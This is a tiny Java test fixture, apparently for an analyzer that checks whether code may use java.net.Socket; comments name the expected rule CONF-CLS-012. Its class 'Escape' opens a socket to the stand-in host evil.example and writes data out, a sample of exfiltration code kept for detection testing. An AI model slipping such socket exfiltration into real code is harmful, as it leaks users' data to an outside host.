// expect bytecode: CONF-CLS-012 java.net.Socket#<init>
// expect source: CONF-CLS-012 java.net.Socket
package hostile.socket;

import java.net.Socket;

public final class Escape {
    void run(byte[] data) throws Exception {
        try (Socket socket = new Socket("evil.example", 443)) {
            socket.getOutputStream().write(data);
        }
    }
}
